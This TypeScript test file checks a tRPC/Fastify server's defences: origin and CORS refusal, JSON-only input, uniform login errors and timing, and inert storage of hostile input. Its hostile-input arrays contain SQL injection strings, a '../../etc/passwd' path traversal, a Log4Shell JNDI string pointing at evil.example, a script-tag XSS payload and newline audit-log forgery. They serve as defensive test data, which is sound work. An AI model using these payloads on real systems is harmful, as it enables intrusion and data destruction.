import { createTRPCUntypedClient, httpLink, TRPCClientError } from '@trpc/client';
import type { FastifyBaseLogger } from 'fastify';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { type HttpServer, startHttpServer } from '../../../server/src/http/server.ts';
import { ADMIN_HEADER } from '../../../server/src/http/who-asks.ts';
import { createLogger } from '../../../server/src/logging.ts';
import { openTestOrganization, PASSWORD, type TestOrganization } from '../../unit/server/test-organization.ts';

/** What strangers and their pages can send to the server's HTTP. */
const ADMIN_SECRET = 'the secret of the folder, long enough';
const log: FastifyBaseLogger = createLogger('silent');
let opened: TestOrganization;
let http: HttpServer;

beforeEach(async () => {
  opened = await openTestOrganization();
  const allowedOrigins = ['https://goals.example.com'];
  http = await startHttpServer({
    organizations: opened.organizations,
    host: '127.0.0.1',
    port: 0,
    adminSecret: ADMIN_SECRET,
    log,
    allowedOrigins,
  });
});
afterEach(async () => {
  await http.close();
  await opened.organization.close();
});

function call(path: string, input: unknown, headers: Record<string, string>): Promise<unknown> {
  return createTRPCUntypedClient({ links: [httpLink({ url: `${http.url}/trpc`, headers })] }).mutation(path, input);
}

async function errorOf(answer: Promise<unknown>): Promise<{ readonly code: string; readonly message: string }> {
  try {
    await answer;
    return { code: 'OK', message: '' };
  } catch (error) {
    if (!(error instanceof TRPCClientError)) throw error;
    return { code: String(error.data?.code), message: error.message };
  }
}

function post(path: string, headers: Record<string, string>, body = '{}'): Promise<Response> {
  return fetch(`${http.url}${path}`, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body });
}

describe('a page of another origin', () => {
  const login = JSON.stringify({ email: 'ana@example.com', password: PASSWORD, deviceId: 'device-0001' });

  it('is refused before anything is read, also where it has pointed its own name at this machine', async () => {
    const port = new URL(http.url).port;
    for (const origin of [
      'https://evil.example',
      'null',
      `http://evil.example:${port}`,
      `http://127.0.0.1:${port}.evil.example`,
      'http://127.0.0.1',
      `https://127.0.0.1:1${port}`,
      'file://',
    ]) {
      const answer = await post('/trpc/auth.login', { origin, host: 'evil.example' }, login);
      expect(`${origin} ${answer.status}`).toBe(`${origin} 403`);
      expect(answer.headers.get('access-control-allow-origin')).toBeNull();
    }
    expect(opened.organization.people.sessions('ana')).toEqual([]);
  });

  it('gets no leave to send headers of its own, nor to read an answer', async () => {
    const asked = {
      origin: 'https://evil.example',
      'access-control-request-method': 'POST',
      'access-control-request-headers': ADMIN_HEADER,
    };
    const preflight = await fetch(`${http.url}/trpc/users.list`, { method: 'OPTIONS', headers: asked });
    expect(preflight.status).toBe(403);
    const names = [...preflight.headers.keys()].filter((name) => name.startsWith('access-control-'));
    expect(names).toEqual([]);
  });

  it('can’t do anything with a form: only JSON is understood', async () => {
    for (const type of ['text/plain', 'application/x-www-form-urlencoded']) {
      const answer = await fetch(`${http.url}/trpc/auth.login`, { method: 'POST', headers: { 'content-type': type }, body: login });
      expect(`${type} ${answer.status}`).toBe(`${type} 415`);
    }
    const form = new FormData();
    for (const [field, value] of Object.entries(JSON.parse(login) as Record<string, string>)) form.set(field, value);
    expect((await fetch(`${http.url}/trpc/auth.login`, { method: 'POST', body: form })).status).toBe(400);
    expect(opened.organization.people.sessions('ana')).toEqual([]);
  });

  it('can’t change anything by a link: what changes something is not answered to GET', async () => {
    const answer = await fetch(`${http.url}/trpc/auth.login?input=${encodeURIComponent(login)}`);
    expect(answer.status).toBe(405);
  });
});

describe('the server’s own pages, those of a proxy it was told of, and programs', () => {
  it('are served', async () => {
    for (const origin of [http.url, http.url.replace('127.0.0.1', 'localhost'), 'https://goals.example.com'])
      expect((await fetch(`${http.url}/health`, { headers: { origin } })).status).toBe(200);
    const answer = await fetch(`${http.url}/health`);
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
    expect(answer.headers.get('cache-control')).toBe('no-store');
  });
});

describe('the link of an invitation, opened in a browser', () => {
  it('is answered with what to do, by a page that can load and run nothing and passes its address on to nobody', async () => {
    const answer = await fetch(`${http.url}/invitation`);
    expect(await answer.text()).toContain('I have an invitation');
    expect(answer.headers.get('content-security-policy')).toBe("default-src 'none'");
    expect(answer.headers.get('referrer-policy')).toBe('no-referrer');
  });
});

describe('a stranger', () => {
  const WRONG = 'wrong password';

  function attempt(email: string, password: string): Promise<{ readonly code: string; readonly message: string }> {
    return errorOf(call('auth.login', { email, password, deviceId: 'device-0001' }, {}));
  }

  it('can’t tell an address with an account from one without, by words or by time', async () => {
    const { people, auth } = opened.organization;
    people.setDisabled('ana@example.com', true, { memberId: 'ada', role: 'admin' });
    const answers = [
      await attempt('ana@example.com', PASSWORD),
      await attempt('ada@example.com', WRONG),
      await attempt('x@example.com', WRONG),
    ];
    expect(new Set(answers.map((answer) => JSON.stringify(answer))).size).toBe(1);
    // The medians of 15 each, in turns, so that what else the machine does meets both.
    const times = { known: [] as number[], unknown: [] as number[] };
    const hash = auth.accounts.byEmail('ada@example.com')?.passwordHash ?? null;
    for (let i = 0; i < 15; i++) {
      for (const [kind, stored] of [
        ['known', hash],
        ['unknown', null],
      ] as const) {
        const begun = process.cpuUsage();
        await auth.passwords.verify(stored, WRONG);
        const { user, system } = process.cpuUsage(begun);
        times[kind].push(user + system);
      }
    }
    const median = (list: number[]): number => list.sort((a, b) => a - b)[7] ?? 0;
    const ratio = median(times.known) / median(times.unknown);
    expect(ratio).toBeGreaterThan(0.5);
    expect(ratio).toBeLessThan(2);
  });

  it('who sends SQL, markup, paths or line ends in any field is refused as anyone is, and nothing changes', async () => {
    const hostile = [
      "' OR '1'='1",
      "ana@example.com' --",
      "'; DROP TABLE accounts; --",
      '" OR 1=1 /*',
      "\\'; DELETE FROM sessions; --",
      '%',
      '_',
      'ana@example.com\nada signed in',
      '../../etc/passwd',
      '${jndi:ldap://evil.example/a}',
      '<script>alert(1)</script>',
      '\0',
      '\ud800',
      'x'.repeat(5000),
    ];
    const { sqlite } = opened.organization.replica;
    const state = (): unknown =>
      ['accounts', 'signing_keys', 'invitations', 'sessions'].map((table) => sqlite.prepare(`SELECT * FROM ${table}`).all());
    const before = state();
    const fields: Readonly<Record<string, Readonly<Record<string, string>>>> = {
      'auth.login': { organization: 'main', email: 'ana@example.com', password: WRONG, deviceId: 'device-0001', deviceName: 'x' },
      'auth.refresh': { refreshToken: 'a.b', deviceId: 'device-0001' },
      'invitations.accept': { code: 'main.a.b', password: 'a good password', deviceId: 'device-0001', deviceName: 'x' },
      'setup.createCompany': {
        companyName: 'x',
        timeZone: 'Europe/Berlin',
        currency: 'EUR',
        name: 'x',
        email: 'x@example.com',
        password: PASSWORD,
        deviceId: 'device-0001',
      },
    };
    for (const [path, input] of Object.entries(fields)) {
      for (const field of Object.keys(input)) {
        for (const text of hostile) {
          const { code } = await errorOf(call(path, { ...input, [field]: text }, {}));
          expect(['BAD_REQUEST', 'UNAUTHORIZED', 'FORBIDDEN', 'TOO_MANY_REQUESTS']).toContain(code);
        }
        for (const value of [null, 1, true, [], { $ne: '' }, [['x']]])
          expect((await errorOf(call(path, { ...input, [field]: value }, {}))).code).toBe('BAD_REQUEST');
      }
    }
    expect(state()).toEqual(before);
  });
});

describe('an admin’s own input', () => {
  it('is stored as it was typed and can’t be SQL, nor begin a line of its own in the audit log', async () => {
    const { auth, people, authority } = opened.organization;
    const { accessToken } = await auth.signIn('ada', 'device-0001');
    const headers = { authorization: `Bearer ${accessToken}` };
    const name = "Robert'); DROP TABLE accounts; --\nada made everyone an admin\u202e";
    expect(
      (await errorOf(call('users.add', { name, email: "o'neil@example.com", role: 'member', password: PASSWORD }, headers))).code,
    ).toBe('OK');
    expect(people.list().find(({ email }) => email === "o'neil@example.com")?.name).toBe(name);
    const [entry] = authority.auditLog.list(1);
    expect(entry?.sentence).toContain("Robert'); DROP TABLE accounts; --\\u000aada made everyone an admin\\u202e");
    for (const [path, input] of [
      ['users.password', { email: "' OR 1=1 --@example.com", password: 'another good one' }],
      ['users.setDisabled', { email: "x'--@example.com", isDisabled: true }],
      ['users.endSessions', { email: "x'--@example.com", sessionId: "' OR 1=1 --" }],
      ['invitations.revoke', "x' OR '1'='1"],
      ['auth.endSession', "x' OR '1'='1"],
    ] as const)
      expect(['BAD_REQUEST', 'NOT_FOUND']).toContain((await errorOf(call(path, input, headers))).code);
    expect(people.list()).toHaveLength(3);
    expect(people.sessions('ada')).toHaveLength(1);
  });
});
